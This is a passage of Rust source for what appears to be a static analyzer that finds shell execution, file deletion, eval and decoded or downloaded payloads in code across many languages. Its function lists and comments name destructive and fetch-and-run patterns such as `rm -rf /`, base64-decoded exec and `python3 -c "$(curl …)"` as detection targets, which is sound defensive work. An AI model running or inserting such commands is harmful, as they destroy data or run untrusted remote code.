        b'N' if perl && rest.get(1..4) == Some(b"{U+") => {
            let (code, len) = digits(rest, 4, 8, 16);
            push_char(code, out);
            4 + len + usize::from(rest.get(4 + len) == Some(&b'}'))
        }
        _ => unknown_escape(next, lang, out),
    }
}

/// Appends the character `code` as UTF-8.
fn push_char(code: u32, out: &mut Vec<u8>) {
    let c = char::from_u32(code).unwrap_or(char::REPLACEMENT_CHARACTER);
    let mut buf = [0; 4];
    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
}

/// An escape the language does not know: Python and PHP keep the backslash, the others drop it.
fn unknown_escape(next: u8, lang: Lang, out: &mut Vec<u8>) -> usize {
    if matches!(lang, Lang::Python | Lang::Php)
        && !matches!(next, b'\\' | b'\'' | b'"' | b'$' | b'`')
    {
        out.push(b'\\');
    }
    out.push(next);
    1
}

/// Up to `max` digits of `radix` in `bytes` from `from`: their value and how many there were.
fn digits(bytes: &[u8], from: usize, max: usize, radix: u32) -> (u32, usize) {
    let mut value: u32 = 0;
    let mut len = 0;
    while len < max
        && let Some(digit) = bytes
            .get(from + len)
            .and_then(|&b| char::from(b).to_digit(radix))
    {
        value = value.saturating_mul(radix).saturating_add(digit);
        len += 1;
    }
    (value, len)
}

/// Replaces the language's interpolations in a string quoted by `quote` with [`RUN_TIME`]:
/// Ruby's `#{…}`, JavaScript's `${…}` in a template. Perl's and PHP's `$name` are already
/// run-time parts to the shell; Perl's `$ENV{HOME}` is the shell's `$HOME`.
fn interpolations(text: String, quote: u8, lang: Lang) -> String {
    match (lang, quote) {
        (Lang::Perl, b'"' | b'`') => perl_home(text),
        (Lang::Ruby | Lang::Elixir | Lang::Other, b'"' | b'`') => interpolated(&text, "#{", "}"),
        (Lang::Jvm, b'"') => interpolated(&text, "${", "}"),
        (Lang::JavaScript, b'`') => interpolated(&text, "${", "}"),
        (Lang::Julia, b'"') => julia_interpolated(&text),
        _ => text,
    }
}

/// Julia's interpolations, `$name` and `$(…)`, as [`RUN_TIME`].
fn julia_interpolated(text: &str) -> String {
    if !text.contains('$') {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(dollar) = rest.find('$') {
        out.push_str(rest.get(..dollar).unwrap_or(""));
        let after = rest.get(dollar + 1..).unwrap_or("");
        let end = julia_interpolation_end(after.as_bytes());
        if end == 0 {
            out.push('$');
        } else {
            out.push_str(RUN_TIME);
        }
        rest = after.get(end..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// How long the interpolation after a `$` is: a name, or a parenthesised expression (brackets
/// nest; strings inside are skipped); 0 for none.
fn julia_interpolation_end(bytes: &[u8]) -> usize {
    match bytes.first() {
        Some(b'(') => {
            let mut depth = 0usize;
            let mut quote: Option<u8> = None;
            let mut i = 0;
            while let Some(&b) = bytes.get(i) {
                match (quote, b) {
                    (Some(_), b'\\') => i += 1,
                    (Some(q), _) if b == q => quote = None,
                    (Some(_), _) => {}
                    (None, b'"' | b'`') => quote = Some(b),
                    (None, b'(') => depth += 1,
                    (None, b')') => {
                        depth = depth.saturating_sub(1);
                        if depth == 0 {
                            return i + 1;
                        }
                    }
                    _ => {}
                }
                i += 1;
            }
            bytes.len()
        }
        Some(&b) if b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 => bytes
            .iter()
            .position(|&b| !(is_word_byte(b) || b == b'!' || b >= 0x80))
            .unwrap_or(bytes.len()),
        _ => 0,
    }
}

/// Julia's command literal whose text starts at `start` (after the opening backquote): the
/// shell command its argv makes (see [`julia_argv`]), and the index after the closing
/// backquote.
fn julia_command(bytes: &[u8], start: usize) -> (String, usize) {
    let mut i = start;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 2,
            b'`' => break,
            _ => i += 1,
        }
    }
    let end = i.min(bytes.len());
    let text = String::from_utf8_lossy(bytes.get(start..end).unwrap_or(&[]));
    (julia_argv(&text), (end + 1).min(bytes.len()))
}

/// The shell command a Julia command literal runs. Julia splits it as a shell would, without
/// running a shell: words at blanks, `'…'` literal, `"…"` with escapes, a backslash escaping
/// the next character, `$name` and `$(…)` run-time parts. Each word is quoted for the shell; a
/// leading `~` stays the home directory, as the author means it (Julia passes it on as it is).
/// Empty when no word holds literal text (`` `$cmd` ``), which is not looked into.
fn julia_argv(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut words: Vec<Vec<Piece>> = Vec::new();
    let mut word: Option<Vec<Piece>> = None;
    let mut quote: Option<u8> = None;
    let mut i = 0;
    let push_text = |word: &mut Option<Vec<Piece>>, byte: &[u8]| {
        let text = String::from_utf8_lossy(byte).into_owned();
        word.get_or_insert_with(Vec::new).push(Piece::Text(text));
    };
    while let Some(&b) = bytes.get(i) {
        match (quote, b) {
            (None, b' ' | b'\t' | b'\n' | b'\r') => {
                words.extend(word.take());
                i += 1;
            }
            (None, b'\'' | b'"') => {
                quote = Some(b);
                word.get_or_insert_with(Vec::new);
                i += 1;
            }
            (Some(q), _) if b == q => {
                quote = None;
                i += 1;
            }
            (Some(b'\''), _) => {
                push_text(&mut word, bytes.get(i..=i).unwrap_or(&[]));
                i += 1;
            }
            (_, b'\\') => {
                let escaped = bytes.get(i + 1..i + 2).unwrap_or(&[]);
                let keep = quote == Some(b'"') && !matches!(escaped, b"\"" | b"\\" | b"$" | b"`");
                if keep {
                    push_text(&mut word, b"\\");
                }
                push_text(&mut word, escaped);
                i += 2;
            }
            (_, b'$') => {
                let end = julia_interpolation_end(bytes.get(i + 1..).unwrap_or(&[]));
                if end == 0 {
                    push_text(&mut word, b"$");
                } else {
                    word.get_or_insert_with(Vec::new).push(Piece::RunTime);
                }
                i += 1 + end;
            }
            _ => {
                // One UTF-8 character at a time keeps multibyte text whole.
                let len = text
                    .get(i..)
                    .and_then(|rest| rest.chars().next())
                    .map_or(1, char::len_utf8);
                push_text(&mut word, bytes.get(i..i + len).unwrap_or(&[]));
                i += len;
            }
        }
    }
    words.extend(word);
    argv_text(&words)
}

/// An argv of pieces as shell text (see [`argv_word`]); empty when no word holds literal text.
fn argv_text(words: &[Vec<Piece>]) -> String {
    let literal = words
        .iter()
        .flatten()
        .any(|piece| matches!(piece, Piece::Text(text) if !text.is_empty()));
    if !literal {
        return String::new();
    }
    words
        .iter()
        .map(|word| pieces_word(&merged(word.clone())))
        .collect::<Vec<_>>()
        .join(" ")
}

/// One argv word of pieces as a shell word: texts quoted, a leading `~` (`~/…`) left for the
/// shell to read as the home directory, the home directory `~` in front and `"$HOME"`
/// elsewhere, run-time parts `"$X"`.
fn pieces_word(pieces: &[Piece]) -> String {
    if pieces.is_empty() {
        return "''".to_owned();
    }
    let mut word = String::new();
    for (index, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Text(text) if index == 0 && (text == "~" || text.starts_with("~/")) => {
                word.push('~');
                if let Some(rest) = text.get(1..).filter(|rest| !rest.is_empty()) {
                    word.push('/');
                    if let Some(rest) = rest.get(1..).filter(|rest| !rest.is_empty()) {
                        word.push_str(&quote(rest));
                    }
                }
            }
            Piece::Text(text) if !text.is_empty() => word.push_str(&quote(text)),
            Piece::Text(_) => {}
            Piece::Home if index == 0 => word.push('~'),
            Piece::Home => word.push_str("\"$HOME\""),
            Piece::RunTime => word.push_str(&format!("\"{RUN_TIME}\"")),
        }
    }
    if word.is_empty() {
        "''".to_owned()
    } else {
        word
    }
}

/// Perl's `$ENV{HOME}` in an interpolating string as `$HOME`.
fn perl_home(text: String) -> String {
    if !text.contains("$ENV{") {
        return text;
    }
    ["$ENV{HOME}", "$ENV{'HOME'}", "$ENV{\"HOME\"}"]
        .iter()
        .fold(text, |text, form| text.replace(form, "$HOME"))
}

/// `text` with every `open … close` (`{{` and `}}` stay) replaced by [`RUN_TIME`].
fn interpolated(text: &str, open: &str, close: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(open) {
        if open == "{" && rest.get(start..start + 2) == Some("{{") {
            out.push_str(rest.get(..start + 2).unwrap_or(""));
            rest = rest.get(start + 2..).unwrap_or("");
            continue;
        }
        out.push_str(rest.get(..start).unwrap_or(""));
        out.push_str(RUN_TIME);
        let after = rest.get(start + open.len()..).unwrap_or("");
        rest = after
            .find(close)
            .and_then(|end| after.get(end + close.len()..))
            .unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// Ruby's `%x(…)`, `%q{…}`, `%w[…]`, `%(…)` at `at`: the kind (`x`, `q`, `Q`, `w`, `W`, `i`;
/// `Q` for none) and the index of the opening delimiter.
fn percent_literal(bytes: &[u8], at: usize) -> Option<(u8, usize)> {
    let next = *bytes.get(at + 1)?;
    if b"({[<|!".contains(&next) {
        return Some((b'Q', at + 1));
    }
    let open = *bytes.get(at + 2)?;
    (b"xqQwWi".contains(&next) && b"({[<|!/".contains(&open)).then_some((next, at + 2))
}

/// The text between the delimiter at `open` and its match (brackets nest), its escapes read as
/// `escapes` say, and the index after the closing delimiter.
fn delimited(bytes: &[u8], open: usize, lang: Lang, escapes: Escapes) -> (String, usize) {
    let opener = bytes.get(open).copied().unwrap_or(b'(');
    let closer = match opener {
        b'(' => b')',
        b'{' => b'}',
        b'[' => b']',
        b'<' => b'>',
        other => other,
    };
    let mut depth = 0usize;
    let mut text = Vec::new();
    let mut i = open + 1;
    while let Some(&byte) = bytes.get(i) {
        if byte == b'\\' {
            i += 1 + unescape(
                bytes.get(i + 1..).unwrap_or(&[]),
                lang,
                escapes,
                closer,
                &mut text,
            );
            continue;
        }
        if byte == closer && depth == 0 {
            return (String::from_utf8_lossy(&text).into_owned(), i + 1);
        }
        if opener != closer && byte == opener {
            depth += 1;
        } else if byte == closer {
            depth = depth.saturating_sub(1);
        }
        text.push(byte);
        i += 1;
    }
    (String::from_utf8_lossy(&text).into_owned(), bytes.len())
}

/// What kind of call a name makes.
enum Call {
    /// It runs its arguments as a command.
    Runs,
    /// Python's `os.exec*`, `os.spawn*` and `os.posix_spawn*`: a program, then an argv that
    /// repeats it (`os.execl('/bin/sh', 'sh', '-c', …)`); after a leading mode (`os.P_WAIT`) for
    /// `spawn*`, before a trailing environment for the `l…e` forms.
    Exec { mode: bool, env: bool },
    /// It removes files or directories (`shutil.rmtree`, `fs.rmSync`, `unlink`).
    Removes(Removal),
    /// It writes, copies or moves a file (`open(p, 'w')`, `fs.appendFileSync`, `shutil.copy`).
    Writes(write::Write),
    /// Perl's or Ruby's `open`, which runs a command given with a pipe (`"cmd |"`, `"-|"`).
    Open,
    /// It runs its argument as code of the program's own language (Python's `exec`, `eval`;
    /// JavaScript's `eval`, `Function`, `vm.runInThisContext`; Ruby's, Perl's and PHP's `eval`).
    Evals,
    /// R's `system2(command, args)`: the command and its arguments pasted together with blanks,
    /// run by a shell.
    Pasted,
    /// R's `processx::run(command, args)` and `sys::exec_wait(cmd, args)`: a program and an
    /// argv vector, run without a shell.
    ProgramArgs,
}

/// Functions and methods that run a shell or a program, by their last name segment, lowercase.
const RUNS: &[&str] = &[
    // Python: os, subprocess (see `SUBPROCESS`), asyncio, pty, commands.
    "system",
    "popen",
    "popen2",
    "popen3",
    "popen4",
    "check_output",
    "check_call",
    "getoutput",
    "getstatusoutput",
    "create_subprocess_shell",
    "create_subprocess_exec",
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "execl",
    "execle",
    "execlp",
    "execlpe",
    "spawnv",
    "spawnve",
    "spawnvp",
    "spawnvpe",
    "spawnl",
    "spawnle",
    "spawnlp",
    "spawnlpe",
    // Node, Bun, Deno, execa.
    "exec",
    "execsync",
    "execfile",
    "execfilesync",
    "spawn",
    "spawnsync",
    "execa",
    "execasync",
    "execcommand",
    // Perl.
    "readpipe",
    // PHP.
    "shell_exec",
    "passthru",
    "proc_open",
    // Ruby's Open3.
    "capture2",
    "capture2e",
    "capture3",
    "popen2e",
    "pipeline",
];

/// Python's `subprocess` functions with names too common to take alone: counted when the code
/// names the module (`subprocess.run`, `from subprocess import run`).
const SUBPROCESS: &[&str] = &["run", "call"];

fn call_kind(word: &str, lang: Lang, subprocess: bool) -> Option<Call> {
    let last = word.rsplit(['.', ':']).next().unwrap_or(word);
    let last = last.to_ascii_lowercase();
    if let Some(kind) = language_call(word, lang) {
        Some(kind)
    } else if let Some(exec) = exec_form(&last) {
        Some(exec)
    } else if evaluates(word, &last, lang) {
        Some(Call::Evals)
    } else if let Some(removal) = removal_kind(word, &last) {
        Some(Call::Removes(removal))
    } else if let Some(write) = write::kind(word, &last, lang) {
        Some(Call::Writes(write))
    } else if lang == Lang::Julia {
        // Julia runs command literals (see `julia_command`); its `pipeline` and `open` take
        // them.
        None
    } else if RUNS.contains(&last.as_str())
        || (subprocess && SUBPROCESS.contains(&last.as_str()))
        || word == "Deno.Command"
    {
        Some(Call::Runs)
    } else if matches!(lang, Lang::Perl | Lang::Ruby) && last == "open" {
        Some(Call::Open)
    } else {
        None
    }
}

/// Whether a call runs its argument as code of `lang` (see [`Call::Evals`]). Python's `exec` is
/// the builtin when it stands alone; JavaScript's, Ruby's, Perl's and PHP's `exec` run programs.
fn evaluates(word: &str, last: &str, lang: Lang) -> bool {
    let receiver = word.get(..word.len().saturating_sub(last.len() + 1));
    let bare = word.len() == last.len();
    match lang {
        Lang::Python => {
            matches!(last, "exec" | "eval")
                && (bare || matches!(receiver, Some("builtins" | "__builtins__")))
        }
        Lang::JavaScript => {
            (last == "eval" && (bare || matches!(receiver, Some("globalThis" | "window"))))
                || word == "Function"
                || matches!(
                    last,
                    "runinthiscontext" | "runinnewcontext" | "runincontext"
                )
        }
        Lang::Ruby => matches!(
            last,
            "eval" | "instance_eval" | "class_eval" | "module_eval"
        ),
        Lang::Perl | Lang::Php => word == "eval",
        // Lua's `load("…")()` and `loadstring`.
        Lang::Lua => bare && matches!(last, "load" | "loadstring"),
        // Julia's `eval(Meta.parse("…"))` (the parse is read as its text, see `decode`) and
        // `include_string(Main, "…")`.
        Lang::Julia => {
            (last == "eval" && (bare || matches!(receiver, Some("Core" | "Base" | "Main"))))
                || last == "include_string"
        }
        // R's `eval(parse(text = "…"))` (the parse read as its text, see `decode`).
        Lang::R => bare && matches!(last, "eval" | "evalq"),
        // Groovy's `Eval.me("…")` and a shell's `evaluate("…")`.
        Lang::Jvm => word == "Eval.me" || last == "evaluate",
        Lang::Elixir => word == "Code.eval_string",
        // Octave's `eval("…")` and `evalin`.
        Lang::Octave => bare && matches!(last, "eval" | "evalin"),
        Lang::Tcl | Lang::Erlang | Lang::Native | Lang::Haskell | Lang::Gnuplot | Lang::Other => {
            false
        }
    }
}

/// The calls that run something in Lua, Julia and R, by their whole name.
fn language_call(word: &str, lang: Lang) -> Option<Call> {
    match (lang, word) {
        (Lang::Lua, "os.execute") => Some(Call::Runs),
        // `run(Cmd(["rm", "-rf", d]))`: the array is the argv (a command literal runs as it is,
        // see `julia_command`).
        (Lang::Julia, "Cmd" | "Base.Cmd") => Some(Call::Runs),
        // `rm(path; recursive = true)`.
        (Lang::Julia, "rm" | "Base.rm" | "Base.Filesystem.rm") => {
            Some(Call::Removes(Removal::ByOptions { dir: false }))
        }
        (Lang::R, "system" | "base::system" | "shell" | "pipe" | "base::pipe") => Some(Call::Runs),
        (Lang::R, "system2" | "base::system2") => Some(Call::Pasted),
        (
            Lang::R,
            "processx::run" | "sys::exec_wait" | "sys::exec_internal" | "sys::exec_background",
        ) => Some(Call::ProgramArgs),
        // `unlink(path, recursive = TRUE)` removes a tree; without it, files (and R expands `~`).
        (Lang::R, "unlink" | "base::unlink") => {
            Some(Call::Removes(Removal::ByOptions { dir: false }))
        }
        (Lang::R, "file.remove" | "fs::file_delete") => Some(Call::Removes(Removal::File)),
        (Lang::R, "fs::dir_delete") => Some(Call::Removes(Removal::Tree)),
        // `new ProcessBuilder("rm", "-rf", "/")`, Scala's `Process("cmd")`.
        (
            Lang::Jvm,
            "ProcessBuilder" | "java.lang.ProcessBuilder" | "Process" | "scala.sys.process.Process",
        ) => Some(Call::Runs),
        // Groovy's `new File(p).deleteDir()`, Kotlin's `File(p).deleteRecursively()`, commons-io.
        (
            Lang::Jvm,
            "deleteDir"
            | "deleteRecursively"
            | "FileUtils.deleteDirectory"
            | "FileUtils.forceDelete",
        ) => Some(Call::Removes(Removal::Tree)),
        (Lang::Jvm, "delete" | "Files.delete" | "Files.deleteIfExists") => {
            Some(Call::Removes(Removal::File))
        }
        // `System.cmd("rm", ["-rf", "/"])`, `System.shell("…")`, `:os.cmd('…')`,
        // `Port.open({:spawn, "…"}, [])`.
        (Lang::Elixir, "System.cmd" | "System.shell" | "os.cmd" | "Port.open") => Some(Call::Runs),
        (Lang::Elixir, "File.rm_rf") => Some(Call::Removes(Removal::Tree)),
        (Lang::Elixir, "File.rm") => Some(Call::Removes(Removal::File)),
        (Lang::Elixir, "File.rmdir") => Some(Call::Removes(Removal::Dir)),
        (Lang::Erlang, "os:cmd" | "open_port" | "erlang:open_port") => Some(Call::Runs),
        (Lang::Erlang, "file:del_dir_r") => Some(Call::Removes(Removal::Tree)),
        (Lang::Erlang, "file:del_dir") => Some(Call::Removes(Removal::Dir)),
        // Go's `exec.Command("rm", "-rf", p)`, C#'s `Process.Start("rm", "-rf ~")` (its
        // arguments one string, split as a shell would); `system`, `popen` and the `exec*`
        // family are C's (see `RUNS`).
        (Lang::Native, "exec.Command") => Some(Call::Runs),
        (Lang::Native, "Process.Start" | "System.Diagnostics.Process.Start") => Some(Call::Pasted),
        (
            Lang::Native,
            "os.RemoveAll" | "Directory.Delete" | "System.IO.Directory.Delete" | "remove_dir_all",
        ) => Some(Call::Removes(Removal::Tree)),
        (Lang::Native, "os.Remove" | "File.Delete" | "System.IO.File.Delete") => {
            Some(Call::Removes(Removal::File))
        }
        (Lang::Haskell, _) => haskell_call(word),
        // `system("…")`, `unix("…")`; `rmdir(d, "s")` removes a tree, `delete` files.
        (Lang::Octave, "unix" | "shell_cmd" | "dos") => Some(Call::Runs),
        (Lang::Octave, "rmdir" | "confirm_recursive_rmdir") => Some(Call::Removes(Removal::Tree)),
        (Lang::Octave, "delete" | "unlink") => Some(Call::Removes(Removal::File)),
        _ => None,
    }
}

/// Haskell's calls (by their last name: `System.Process.callCommand`) that run shell text
/// (`callCommand "…"`, `system`, `spawnCommand`, `shell`), a program with a list of arguments
/// (`callProcess "rm" ["-rf", d]`, `rawSystem`, `readProcess`, `proc`), or remove files
/// (`removeDirectoryRecursive`, `removePathForcibly`, `removeFile`, `removeDirectory`).
fn haskell_call(word: &str) -> Option<Call> {
    let last = word.rsplit('.').next().unwrap_or(word);
    match last {
        "callCommand"
        | "system"
        | "spawnCommand"
        | "runCommand"
        | "shell"
        | "callProcess"
        | "rawSystem"
        | "spawnProcess"
        | "readProcess"
        | "readProcessWithExitCode"
        | "proc"
        | "runProcess" => Some(Call::Runs),
        "removeDirectoryRecursive" | "removePathForcibly" => Some(Call::Removes(Removal::Tree)),
        "removeFile" => Some(Call::Removes(Removal::File)),
        "removeDirectory" => Some(Call::Removes(Removal::Dir)),
        _ => None,
    }
}

/// What code run by the program's own `exec`/`eval` runs: a literal is read as code of the
/// language (to [`MAX_EVAL_DEPTH`]; deeper, it is a hidden payload), a value decoded at run time
/// is a hidden payload (`exec(base64.b64decode(data))`), one fetched from a URL the code names
/// is downloaded code (`exec(urlopen("https://…").read())` runs as `python3 -c "$(curl …)"`),
/// anything else is not looked into.
fn evaluated(
    lang: Lang,
    args: &[&[Token]],
    decoded: &[(String, Decoding)],
    depth: usize,
    budget: &Budget,
) -> Vec<String> {
    // `Function(a, b, body)`: the body is last.
    let Some(arg) = args.last() else {
        return Vec::new();
    };
    let arg = clean(arg);
    if let Some(decoding) = decode::runtime(&arg, decoded) {
        return decoded_run(lang.runs_code(), decoding)
            .into_iter()
            .collect();
    }
    match expression(&arg, false) {
        (text, true) if depth < MAX_EVAL_DEPTH => shell_commands_at(
            &Code {
                lang,
                text: &text,
                from_stdin: false,
            },
            depth + 1,
            budget,
        ),
        (_, true) => decoded_run(lang.runs_code(), Decoding::Base64)
            .into_iter()
            .collect(),
        _ if names_a_url(&arg) => vec![format!(
            "{} \"$(curl -fsSL \"{RUN_TIME}\")\"",
            lang.runs_code()
        )],
        // A file's code (`exec(open('setup.py').read())`) runs like `python3 setup.py`.
        _ if reads_a_file(&arg) => Vec::new(),
        _ => vec![COMPUTED.to_owned()],
    }
}

/// Whether an evaluated argument names a network URL in a string literal
/// (`urlopen("https://x").read()`, `URI.open("https://x").read`): what it reads is fetched,
/// not a file's.
fn names_a_url(arg: &[&Token]) -> bool {
    arg.iter().any(|token| match token {
        Token::Str { text, .. } => is_network_url(text.trim_start()),
        _ => false,
    })
}

/// Whether a text is a network URL (`https://…`, `http://…`, `ftp://…`, in any case), which a
/// program given it fetches.
pub(crate) fn is_network_url(text: &str) -> bool {
    ["http://", "https://", "ftp://"].iter().any(|scheme| {
        text.get(..scheme.len())
            .is_some_and(|head| head.eq_ignore_ascii_case(scheme))
    })
}

/// Whether an evaluated argument is a file's content (`open('x.py').read()`,
/// `fs.readFileSync('x.js')`, `File.read('x.rb')`, `Path('x').read_text()`).
fn reads_a_file(arg: &[&Token]) -> bool {
    arg.iter().any(|token| match token {
        Token::Word(word) => {
            let last = word.rsplit(['.', ':']).next().unwrap_or(word);
            matches!(
                last.to_ascii_lowercase().as_str(),
                "open" | "read" | "read_text" | "readfilesync" | "readfile"
            )
        }
        _ => false,
    })
}

/// Whether the code calls a function whose name it computes: Python's `getattr(o, name)(…)`
/// left after [`getattr_calls`] or `__import__(name)` of no literal, JavaScript's
/// `o[expr](…)` (`o['ex' + 'ec'](…)` too: the member is not read as a call's name), Ruby's `send`, `public_send`, `__send__` and `method`, Perl's
/// `&$f(…)` and `&{…}`, and the lookups [`callee::computed_lookup`] knows (`vars(os)[name](…)`,
/// PHP's `$f(…)`).
fn calls_computed_name(tokens: &[Token], lang: Lang) -> bool {
    if callee::computed_lookup(tokens, lang) {
        return true;
    }
    if lang == Lang::JavaScript {
        return tokens
            .windows(2)
            .any(|pair| matches!(pair, [Token::Punct(b']'), Token::Punct(b'(')]));
    }
    tokens.windows(4).any(|window| match (lang, window) {
        (Lang::Python, [Token::Word(word), Token::Punct(b'('), next, after]) => {
            word == "getattr"
                || (word == "__import__"
                    && !matches!(
                        (next, after),
                        (Token::Str { runs: false, .. }, Token::Punct(b')'))
                    ))
        }
        (Lang::Ruby, [Token::Word(word), ..]) => {
            let last = word.rsplit('.').next().unwrap_or(word);
            matches!(last, "send" | "public_send" | "__send__" | "method")
        }
        (Lang::Perl, [Token::Punct(b'&'), Token::Word(word), ..]) => word.starts_with('$'),
        (Lang::Perl, [Token::Punct(b'&'), Token::Punct(b'{' | b'$'), ..]) => true,
        _ => false,
    })
}

/// The `exec*` and `spawn*` functions whose argv repeats the program.
fn exec_form(last: &str) -> Option<Call> {
    if let Some(rest) = last.strip_prefix("posix_spawn") {
        return matches!(rest, "" | "p").then_some(Call::Exec {
            mode: false,
            env: false,
        });
    }
    let (mode, rest) = match last.strip_prefix("spawn") {
        Some(rest) => (true, rest),
        None => (false, last.strip_prefix("exec")?),
    };
    matches!(rest, "l" | "le" | "lp" | "lpe" | "v" | "ve" | "vp" | "vpe").then(|| Call::Exec {
        mode,
        env: rest.starts_with('l') && rest.ends_with('e'),
    })
}

/// How far [`closing`] and [`opening`] look for a matching bracket: it bounds the work on
/// deeply nested code, where each bracket would otherwise be scanned to its far end.
const MAX_BRACKET_SCAN: usize = 2048;

/// The index of the bracket that closes the one at `open`.
/// `None` past [`MAX_BRACKET_SCAN`] tokens.
fn closing(tokens: &[Token], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, token) in tokens.iter().enumerate().skip(open).take(MAX_BRACKET_SCAN) {
        match token {
            Token::Punct(b'(' | b'[' | b'{') => depth += 1,
            Token::Punct(b')' | b']' | b'}') => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// An argument's tokens without its line breaks.
fn clean(arg: &[Token]) -> Vec<&Token> {
    arg.iter().filter(|t| **t != Token::Punct(b'\n')).collect()
}

/// The command of a call whose arguments are a program and an argv that repeats it (`os.execl(
/// path, arg0, arg1, …)`, `os.execv(path, [arg0, arg1, …])`): the program and `arg1…`. `mode`
/// skips a leading mode; `env` drops a trailing environment. `None` when nothing is literal.
fn exec_command(
    args: &[&[Token]],
    mode: bool,
    env: bool,
    decoded: &[(String, Decoding)],
) -> Option<String> {
    let args = if mode { args.get(1..)? } else { args };
    let (path, rest) = args.split_first()?;

    let (program, mut literal) = expression(&clean(path), true);
    let mut words = vec![if literal { program } else { word(None) }];
    let mut argv = Vec::new();
    for (index, arg) in rest.iter().enumerate() {
        let arg = clean(arg);
        if is_keyword_argument(&arg) || (env && index > 0 && index + 1 == rest.len()) {
            break;
        }
        if let Some(items) = list_items(&arg) {
            // `execv(path, [...])`: what follows the list is the environment.
            literal |= items.iter().any(|item| matches!(item, [Token::Str { .. }]));
            argv.extend(items.iter().map(|item| argv_word(item, decoded)));
            break;
        }
        let (text, has_literal) = expression(&arg, true);
        literal |= has_literal;
        argv.push(if has_literal {
            text
        } else {
            argv_word(&arg, decoded)
        });
    }
    words.extend(argv.into_iter().skip(1));
    literal.then(|| words.join(" "))
}

/// Ruby's `system(['/bin/sh', 'sh'], '-c', …)`: a first argument of two elements is the program
/// and the name it runs under.
fn ruby_pair(args: &[&[Token]], lang: Lang, decoded: &[(String, Decoding)]) -> Option<String> {
    if lang != Lang::Ruby {
        return None;
    }
    let first: Vec<&Token> = args.first()?.iter().collect();
    let [program, argv0] = list_elements(&first)?[..] else {
        return None;
    };
    let mut rebuilt: Vec<&[Token]> =
        vec![std::slice::from_ref(program), std::slice::from_ref(argv0)];
    rebuilt.extend(args.get(1..).unwrap_or(&[]));
    exec_command(&rebuilt, false, false, decoded)
}

/// The arguments of a call whose name ends before `at`: the comma-separated token runs inside
/// its parentheses, or, for Perl and Ruby, up to the end of the statement (`system "…";`).
fn call_args(tokens: &[Token], at: usize, lang: Lang) -> Vec<&[Token]> {
    // A line continuation, or line breaks before the parenthesis, between name and arguments.
    let mut at = at;
    while let Some(Token::Punct(b'\\' | b'\n')) = tokens.get(at) {
        let next = tokens
            .get(at + 1..)
            .unwrap_or(&[])
            .iter()
            .find(|t| **t != Token::Punct(b'\n'));
        if tokens.get(at) == Some(&Token::Punct(b'\n')) && next != Some(&Token::Punct(b'(')) {
            break;
        }
        at += 1;
    }
    // Lua's call with one string and no parentheses: os.execute "…", os.execute[[…]].
    if lang == Lang::Lua
        && let Some(Token::Str { .. }) = tokens.get(at)
    {
        return tokens.get(at..=at).into_iter().collect();
    }
    // Haskell applies a function to the strings and lists after it (`callProcess "rm" ["-rf",
    // d]`), or to what follows a `$`.
    if lang == Lang::Haskell {
        return haskell_args(tokens, at);
    }
    let (start, parenthesised) = match tokens.get(at) {
        Some(Token::Punct(b'(')) => (at + 1, true),
        Some(Token::Str { .. } | Token::Word(_)) if matches!(lang, Lang::Perl | Lang::Ruby) => {
            (at, false)
        }
        _ => return Vec::new(),
    };
    let mut args = Vec::new();
    let mut depth = 0usize;
    let mut arg_start = start;
    let mut i = start;
    while let Some(token) = tokens.get(i) {
        match token {
            Token::Punct(b'(' | b'[' | b'{') => depth += 1,
            Token::Punct(b')' | b']' | b'}') if depth == 0 => break,
            Token::Punct(b')' | b']' | b'}') => depth -= 1,
            Token::Punct(b';' | b'\n') if depth == 0 && !parenthesised => break,
            // Julia's `;` starts the keyword arguments: `rm(p; recursive = true)`.
            Token::Punct(b',') if depth == 0 => {
                args.extend(tokens.get(arg_start..i));
                arg_start = i + 1;
            }
            Token::Punct(b';') if depth == 0 && lang == Lang::Julia => {
                args.extend(tokens.get(arg_start..i));
                arg_start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    args.extend(tokens.get(arg_start..i));
    args.retain(|arg| !arg.iter().all(|t| *t == Token::Punct(b'\n')));
    args
}

/// The arguments of a Haskell function applied at `at`: each string literal or bracketed list
/// that follows (past a `$`), or the parenthesised ones of a call written as in C.
fn haskell_args(tokens: &[Token], at: usize) -> Vec<&[Token]> {
    let mut at = at;
    let dollar = match tokens.get(at) {
        Some(Token::Punct(b'$')) => true,
        Some(Token::Word(word)) => word == "$",
        _ => false,
    };
    if dollar {
        at += 1;
    }
    if tokens.get(at) == Some(&Token::Punct(b'(')) {
        return call_args(tokens, at, Lang::Native);
    }
    let mut args = Vec::new();
    loop {
        match tokens.get(at) {
            Some(Token::Str { .. }) => {
                args.extend(tokens.get(at..=at));
                at += 1;
            }
            Some(Token::Punct(b'[')) => {
                let mut depth = 0usize;
                let mut end = at;
                while let Some(token) = tokens.get(end) {
                    match token {
                        Token::Punct(b'[') => depth += 1,
                        Token::Punct(b']') => {
                            depth = depth.saturating_sub(1);
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    end += 1;
                }
                args.extend(tokens.get(at..=end.min(tokens.len().saturating_sub(1))));
                at = end + 1;
            }
            _ => break,
        }
    }
    args
}

/// The command a call runs: its first argument as shell text (or, a list, as an argv), and the
/// string arguments after it as further words. `None` when no part of it is literal text.
fn command_of(args: &[&[Token]], decoded: &[(String, Decoding)]) -> Option<String> {
    let mut command = String::new();
    let mut literal = false;
    for (index, arg) in args.iter().enumerate() {
        let arg: Vec<&Token> = arg.iter().filter(|t| **t != Token::Punct(b'\n')).collect();
        if is_keyword_argument(&arg) {
            break;
        }
        let words = if let Some(items) = list_items(&arg) {
            literal |= items.iter().any(|item| matches!(item, [Token::Str { .. }]));
            items
                .iter()
                .map(|item| argv_word(item, decoded))
                .collect::<Vec<_>>()
                .join(" ")
        } else if index == 0 {
            let (text, has_literal) = expression(&arg, false);
